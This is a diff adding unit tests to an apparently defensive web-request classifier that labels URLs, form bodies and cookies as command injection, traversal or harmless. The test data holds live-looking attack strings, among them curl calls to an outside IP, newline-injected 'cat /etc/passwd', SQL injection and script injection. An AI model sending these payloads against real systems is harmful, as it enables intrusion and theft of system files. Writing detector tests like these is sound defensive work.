@@ -81,6 +81,14 @@ public class WebFragmentTests
     [InlineData("/run?x=eval(base64_decode('aWQ='));", WebPattern.Command)]
     [InlineData("/run?x=print(md5(31337));", WebPattern.Command)]
     [InlineData("/search?q=system+design+(part+2)", WebPattern.None)]
+    [InlineData("/images/..%2finfo.html", WebPattern.Traversal)]
+    [InlineData("/schemas/../common.xsd", WebPattern.None)]
+    [InlineData("/view?part=..%2fmenu.js", WebPattern.None)]
+    [InlineData("/images/x.php?c=whoami", WebPattern.Command)]
+    [InlineData("/search?q=whoami", WebPattern.None)]
+    [InlineData("/help.php?q=whoami+command", WebPattern.None)]
+    [InlineData("/x;{curl,http://192.0.2.4/a};", WebPattern.Command)]
+    [InlineData("/ping?h=1%26ipconfig", WebPattern.Command)]
     public void Filters_and_calls_of_code_are_told(string target, object pattern) => Assert.Equal((WebPattern)pattern, WebPatterns.InTarget(target));
 
     [Theory]
@@ -88,12 +96,24 @@ public class WebFragmentTests
     [InlineData("page=../../../etc/passwd&ok=1")]
     [InlineData("id=1+AND+5=5")]
     [InlineData("id=0/*!50000union*//*!50000select*/1,2")]
+    [InlineData("ip=127.0.0.1%0Acat+/etc/passwd&ok=1")]
+    [InlineData("name=x%22%29%3Bos.system%28%22curl+http%3A//192.0.2.4%22%29")]
+    [InlineData("q=\\u0027%2b%7bClass.forName(\\u0027javax.script.ScriptEngineManager\\u0027)")]
     public void A_form_needs_no_odd_sign_to_be_read(string body) => Assert.NotEqual(WebPattern.None, WebPatterns.InBody(body, out _));
+
+    [Theory]
+    [InlineData("list=milk%0Acat+food%0Abread")]
+    [InlineData("text=the+system+(%22old%22)+is+down")]
+    [InlineData("script=println(%22id%22.execute().text)%3B+os.system(%22ls%22)")]
+    [InlineData("name=O%27Hara+and+sons&city=Ulm")]
+    [InlineData("where=a%3D1+and+b%3D2&order=5")]
+    public void A_form_that_somebody_fills_in_is_none(string body) => Assert.Equal(WebPattern.None, WebPatterns.InBody(body, out _));
 
     [Theory]
     [InlineData("Cookie: lang=en; id=1'+AND+SLEEP(5)--+-", true)]
     [InlineData("Cookie: id=%27%20or%201%3d1--%20-", true)]
     [InlineData("Cookie: last=<script>alert(1)</script>", true)]
+    [InlineData("Cookie: SESSID=/../../../opt/x`curl${IFS}192.0.2.4`", true)]
     [InlineData("Referer: http://shop.example/item' AND 1=1-- -", true)]
     [InlineData("Referer: <script>alert(1)</script>", true)]
     [InlineData("Cookie: prefs={\"a\":(1),\"name\":\"O'Hara\"}; ids=(1)|(2)", false)]
